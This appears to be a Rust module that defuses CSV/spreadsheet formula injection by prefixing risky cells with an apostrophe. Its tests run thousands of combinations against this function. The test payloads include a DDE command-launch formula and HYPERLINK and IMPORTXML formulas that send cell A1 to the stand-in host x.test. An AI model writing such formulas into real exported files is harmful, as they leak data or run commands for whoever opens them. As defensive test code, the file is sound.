//! Cells for spreadsheets: what they would run as a formula is led by an apostrophe.

use std::borrow::Cow;

/// First characters that make a spreadsheet take a cell for a formula, or that it drops before one (OWASP ASVS 5, 1.2.10, and
/// OWASP's "CSV injection", which adds the full-width forms). A byte-order mark is dropped where it begins a file.
const LEADS: [char; 13] = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠', '\u{feff}'];

/// A cell as it may be written to a file that a spreadsheet opens. A plain number such as `-3.2` or `+1e6` stays as it is.
pub fn harmless(text: &str) -> Cow<'_, str> {
    if text.starts_with(LEADS) && !is_plain_number(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// Digits with a sign, a point and an exponent; the words for infinity are none, because a spreadsheet takes them for names.
fn is_plain_number(text: &str) -> bool {
    text.bytes().all(|byte| byte.is_ascii_digit() || matches!(byte, b'+' | b'-' | b'.' | b'e' | b'E'))
        && text.parse::<f64>().is_ok()
}

#[cfg(test)]
mod tests {
    use super::harmless;

    #[test]
    fn formulas_get_an_apostrophe() {
        for text in
            ["=1+1", "+1+1", "-1-", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\0=1", "-", "+", "-inf", "＝1"]
        {
            assert_eq!(harmless(text), format!("'{text}"));
        }
    }

    /// What OWASP's page "CSV injection" and its ASVS 5 (1.2.10) say of a cell's first character, by code point.
    fn begins_a_formula(text: &str) -> bool {
        let ascii = [0x3d, 0x2b, 0x2d, 0x40, 0x09, 0x0d, 0x0a, 0x00];
        text.chars().next().map(u32::from).is_some_and(|first| {
            let full_width = first >= 0xfee0 && ascii[..4].contains(&(first - 0xfee0));
            ascii.contains(&first) || full_width || first == 0xfeff
        })
    }

    /// A sign, digits with a point among them, and an exponent: what every spreadsheet takes for a number.
    fn is_number(text: &str) -> bool {
        let digits = |text: &str| !text.is_empty() && text.chars().all(|c| c.is_ascii_digit());
        let unsigned = |text: &str| text.strip_prefix(['+', '-']).unwrap_or(text).to_owned();
        let (mantissa, exponent) = match text.split_once(['e', 'E']) {
            Some((mantissa, exponent)) => (mantissa, Some(exponent)),
            None => (text, None),
        };
        let mantissa = unsigned(mantissa);
        let (whole, fraction) = mantissa.split_once('.').unwrap_or((mantissa.as_str(), ""));
        let parts = (whole.is_empty() || digits(whole)) && (fraction.is_empty() || digits(fraction));
        parts
            && !(whole.is_empty() && fraction.is_empty())
            && exponent.is_none_or(|exponent| digits(&unsigned(exponent)))
    }

    #[test]
    fn thousands_of_payloads_begin_no_formula_and_harmless_ones_stay() {
        let leads = [
            "", "=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠", "\u{feff}", " ", "  ",
            "\u{a0}", "'", "\"", ",", ";", "|", "a", "1", ".", "e",
        ];
        let bodies = [
            "",
            "1+1",
            "3.2",
            "1e6",
            "1E-6",
            ".5",
            "5.",
            "1.2.3",
            "1e",
            "inf",
            "NaN",
            "SUM(A1:A9)",
            "cmd|' /C calc'!A0",
            "HYPERLINK(\"http://x.test?\"&A1,\"a,b\")",
            "IMPORTXML(CONCAT(\"http://x.test/\",A1),\"//a\")",
            "1\",\"=2",
            "1;=2",
            "1\n=2",
            "naïve ☂",
        ];
        let (mut payloads, mut defused) = (0, 0);
        for payload in leads.iter().flat_map(|one| leads.map(|other| format!("{one}{other}"))) {
            for payload in bodies.map(|body| format!("{payload}{body}")) {
                let written = harmless(&payload);
                let is_safe = |text: &str| !begins_a_formula(text) || is_number(text);
                assert!(is_safe(&written), "{payload:?} is written as {written:?}");
                if is_safe(&payload) {
                    assert_eq!(written, payload, "a harmless cell stays as it is");
                } else {
                    assert_eq!(written.strip_prefix('\''), Some(payload.as_str()), "nothing of it is lost");
                    defused += 1;
                }
                payloads += 1;
            }
        }
        println!("{payloads} payloads, {defused} of them defused");
        assert!(payloads >= 1000 && (1000..payloads).contains(&defused), "{payloads}, {defused}");
    }

    #[test]
    fn numbers_and_other_texts_stay() {
        for text in ["", "a=b", "-3.2", "+1", "-1e6", "+.5", "12", "'=1", " =1"] {
            assert_eq!(harmless(text), text);
        }
    }
}
